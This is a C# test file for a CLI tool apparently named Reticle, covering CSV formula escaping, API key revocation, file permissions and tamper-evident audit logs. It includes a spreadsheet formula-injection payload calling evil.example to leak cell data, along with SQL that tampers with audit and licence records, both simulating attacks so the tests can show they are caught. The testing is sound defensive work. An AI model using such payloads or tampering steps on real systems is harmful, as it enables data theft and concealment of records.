using Microsoft.Data.Sqlite;

namespace Reticle.Cli.Tests;

/// <summary>What an attacker with the command line, or with the database file, could get past Reticle, and no longer does.</summary>
public sealed class HardeningCommandTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("+1-2", "'+1-2")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("＝1+1", "'＝1+1")]
    public async Task A_batch_csv_summary_escapes_cells_a_spreadsheet_would_run_as_formulas(string name, string cell)
    {
        var run = new CliRun();
        var input = Path.Combine(run.DataDirectory, "parties.csv");
        var output = Path.Combine(run.DataDirectory, "hits.csv");
        await File.WriteAllTextAsync(input, "id,name\np1,\"" + name.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"\n");

        var result = await run.RunAsync("screen", "--batch", input, "--out", output);

        result.ExitCode.ShouldBe(0, result.Error);
        (await File.ReadAllLinesAsync(output))[1].ShouldStartWith($"p1,{cell},");
    }

    [Fact]
    public async Task Keys_are_listed_and_a_revoked_key_is_marked_with_an_audit_record()
    {
        var run = new CliRun();
        (await run.RunAsync("keys", "create", "--name", "alice", "--role", "analyst")).ExitCode.ShouldBe(0);
        (await run.RunAsync("keys", "create", "--name", "bob", "--role", "viewer")).ExitCode.ShouldBe(0);

        var revoked = await run.RunAsync("keys", "revoke", "alice");

        revoked.ExitCode.ShouldBe(0, revoked.Error);
        var keys = (await run.RunAsync("--json", "keys")).Json.AsArray();
        keys.Select(k => (k!["name"]!.GetValue<string>(), k["revoked"] is not null)).ShouldBe([("alice", true), ("bob", false)]);
        keys.ShouldAllBe(k => k!["created"] != null && k.AsObject().ContainsKey("lastUsed"));
        (await run.RunAsync("keys", "revoke", "alice")).ExitCode.ShouldBe(1);
        (await run.RunAsync("keys", "revoke", "nobody")).Error.ShouldContain("no API key named 'nobody'");
        var audit = await run.RunAsync("audit", "verify");
        audit.ExitCode.ShouldBe(0, audit.Error);
        audit.Out.ShouldContain("so do 2 licence event(s), order(s), hold(s) and API key(s)");
    }

    [Fact]
    public async Task The_command_line_may_not_act_under_an_api_keys_name()
    {
        var run = new CliRun().As("api:alice");

        var result = await run.RunAsync("check", Repository.Sample("nxt2050i-to-us-2024-02-01.json"));

        result.ExitCode.ShouldBe(2);
        result.Error.ShouldContain("RETICLE_ACTOR 'api:alice' names an API key's actor");
    }

    [Fact]
    public async Task A_new_database_and_its_folder_are_readable_by_their_owner_only()
    {
        if (OperatingSystem.IsWindows())
        {
            return;
        }
        var run = new CliRun();
        Directory.Delete(run.DataDirectory, recursive: true);

        (await run.RunAsync("lists")).ExitCode.ShouldBe(0);

        File.GetUnixFileMode(run.DatabaseFile).ShouldBe(UnixFileMode.UserRead | UnixFileMode.UserWrite);
        File.GetUnixFileMode(run.DataDirectory).ShouldBe(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
    }

    [Fact]
    public async Task An_anchor_kept_outside_the_database_catches_a_truncated_tail()
    {
        var run = new CliRun();
        (await run.RunAsync("check", Repository.Sample("nxt2050i-to-us-2024-02-01.json"))).ExitCode.ShouldBe(0);
        (await run.RunAsync("check", Repository.Sample("nxt2050i-to-de-2024-02-01.json"))).ExitCode.ShouldBe(0);
        var anchors = Path.Combine(Path.GetTempPath(), $"reticle-anchor-{Guid.NewGuid():N}.jsonl");
        var anchored = await run.RunAsync("audit", "anchor", "--out", anchors);
        anchored.ExitCode.ShouldBe(0, anchored.Error);
        anchored.Out.Trim().ShouldBe((await File.ReadAllTextAsync(anchors)).Trim());
        (await run.RunAsync("audit", "verify", "--anchor", anchors)).Out.ShouldContain("1 anchor(s) found in the chain");

        // Delete the newest decision and its record, and move the head back: without the anchor this verifies.
        Sql(run, "DELETE FROM determinations WHERE audit_sequence = (SELECT MAX(sequence) FROM audit_log)");
        Sql(run, "DELETE FROM audit_log WHERE sequence = (SELECT MAX(sequence) FROM audit_log)");
        Sql(run, "UPDATE audit_head SET sequence = (SELECT MAX(sequence) FROM audit_log), hash = (SELECT hash FROM audit_log ORDER BY sequence DESC LIMIT 1)");
        (await run.RunAsync("audit", "verify")).ExitCode.ShouldBe(0);

        var verified = await run.RunAsync("audit", "verify", "--anchor", anchors);

        verified.ExitCode.ShouldBe(1);
        verified.Error.ShouldContain("were deleted");
        File.Delete(anchors);
    }

    [Fact]
    public async Task A_malformed_anchor_file_is_refused_naming_its_line()
    {
        var run = new CliRun();
        var anchors = Path.Combine(run.DataDirectory, "anchors.jsonl");
        await File.WriteAllTextAsync(anchors, "{\"sequence\": 1, \"hash\": \"sha256:" + new string('a', 64) + "\", \"at\": \"2026-12-05T10:00:00Z\"}\n{\"sequence\": 0}\n");

        var result = await run.RunAsync("audit", "verify", "--anchor", anchors);

        result.ExitCode.ShouldBe(1);
        result.Error.ShouldContain("anchors.jsonl:2");
    }

    [Fact]
    public async Task A_licence_quantity_raised_in_the_database_is_caught_by_audit_verify()
    {
        var run = new CliRun();
        var license = Path.Combine(run.DataDirectory, "license.json");
        await File.WriteAllTextAsync(license, """
            { "id": "NL/2023/0042", "jurisdiction": "NL", "holder": "ASML", "validFrom": "2023-09-10", "validUntil": "2024-12-31",
              "destinations": ["CN"], "lines": [ { "item": { "sku": "NXT:2050i" }, "quantity": 1 } ] }
            """);
        (await run.RunAsync("licenses", "add", license)).ExitCode.ShouldBe(0);

        Sql(run, "UPDATE license_events SET payload_json = REPLACE(payload_json, '\"quantity\":1', '\"quantity\":100')");

        var verified = await run.RunAsync("audit", "verify");
        verified.ExitCode.ShouldBe(1);
        verified.Error.ShouldContain("licence event");
    }

    [Fact]
    public async Task A_transaction_that_names_no_party_is_review_and_an_order_without_parties_does_not_ship()
    {
        var run = new CliRun();
        var transaction = System.Text.Json.Nodes.JsonNode.Parse(await File.ReadAllTextAsync(Repository.Sample("nxt2050i-to-de-2024-02-01.json")))!.AsObject();
        transaction.Remove("parties");
        transaction["id"] = "SO-NOBODY";
        var file = Path.Combine(run.DataDirectory, "nobody.json");
        await File.WriteAllTextAsync(file, transaction.ToJsonString());

        var checkedJson = await run.RunAsync("--json", "check", file);
        var text = await run.RunAsync("check", file);

        checkedJson.ExitCode.ShouldBe(0, checkedJson.Error);
        checkedJson.Json["outcome"]!.GetValue<string>().ShouldBe("review");
        checkedJson.Json["missing"]!.AsArray().Select(m => m!.GetValue<string>()).ShouldBe(["parties"]);
        text.Out.ShouldContain("nobody screened");
        (await run.RunAsync("orders", "add", file)).ExitCode.ShouldBe(0);
        var shipped = await run.RunAsync("--json", "orders", "ship", "SO-NOBODY");
        shipped.ExitCode.ShouldBe(0, shipped.Error);
        shipped.Json["shipped"]!.GetValue<bool>().ShouldBeFalse();
    }

    private static void Sql(CliRun run, string sql)
    {
        using var connection = new SqliteConnection($"Data Source={run.DatabaseFile};Pooling=False;Foreign Keys=False");
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = sql;
        command.ExecuteNonQuery().ShouldBeGreaterThan(0);
    }
}
